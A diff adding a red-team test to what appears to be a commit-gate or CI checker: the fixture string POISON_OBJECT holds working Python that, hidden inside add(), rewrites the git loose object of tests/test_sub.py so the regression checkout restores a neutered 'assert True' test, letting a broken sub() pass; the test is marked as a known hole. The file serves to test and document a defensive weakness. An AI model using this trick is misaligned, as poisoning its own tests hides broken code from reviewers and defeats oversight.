@@ -925,3 +925,44 @@ def test_forger_in_a_data_file_run_with_runpy(project: Project) -> None:
     )
     code, doc, _ = project.gate(project.commit("run a data file"))
     not_pass(code, doc)
+
+
+# The head command run rewrites, in the repository's object store (shared by every
+# worktree), the loose object of tests/test_sub.py, and deletes the worktree's copy: the
+# checkout before the head regression run restores the file from the poisoned object (git
+# does not verify a loose object's hash when it reads it).
+POISON_OBJECT = (
+    "import hashlib\nimport pathlib\nimport zlib\n\n\n"
+    "def _poison():\n"
+    "    test = pathlib.Path('tests', 'test_sub.py')\n"
+    "    if not test.exists() or b'assert True' in test.read_bytes():\n        return\n"
+    "    old = test.read_bytes()\n"
+    "    sha = hashlib.sha1(b'blob %d\\0' % len(old) + old).hexdigest()\n"
+    "    admin = pathlib.Path(pathlib.Path('.git').read_text().split(':', 1)[1].strip())\n"
+    "    common = (admin / (admin / 'commondir').read_text().strip()).resolve()\n"
+    "    obj = common / 'objects' / sha[:2] / sha[2:]\n"
+    "    new = b'def test_sub():\\n    assert True\\n'\n"
+    "    obj.unlink()\n"
+    "    obj.write_bytes(zlib.compress(b'blob %d\\0' % len(new) + new))\n"
+    "    test.unlink()\n\n\n"
+    "def add(a, b):\n    _poison()\n    return a + b\n\n\n"
+    "def mul(a, b):\n    return a * b\n\n\n"
+    "def sub(a, b):\n    return a + b  # broken: the regression test catches it\n"
+)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="hole: head code rewrites a loose object in the shared object store; the "
+    "regression checkout restores the test from it (docs/redteam.md R-GIT)",
+)
+def test_regression_run_poisoned_through_the_object_store(project: Project) -> None:
+    project.write("src/calc/ops.py", OPS_BUGGY + "\n\ndef sub(a, b):\n    return a - b\n")
+    project.write(
+        "tests/test_sub.py",
+        "from calc.ops import sub\n\n\ndef test_sub():\n    assert sub(5, 3) == 2\n",
+    )
+    project.set_policy(regression="python -m pytest -q tests")
+    project.write("src/calc/ops.py", POISON_OBJECT)
+    code, doc, _ = project.gate(project.commit("fix add, break sub, poison the object"))
+    not_pass(code, doc)
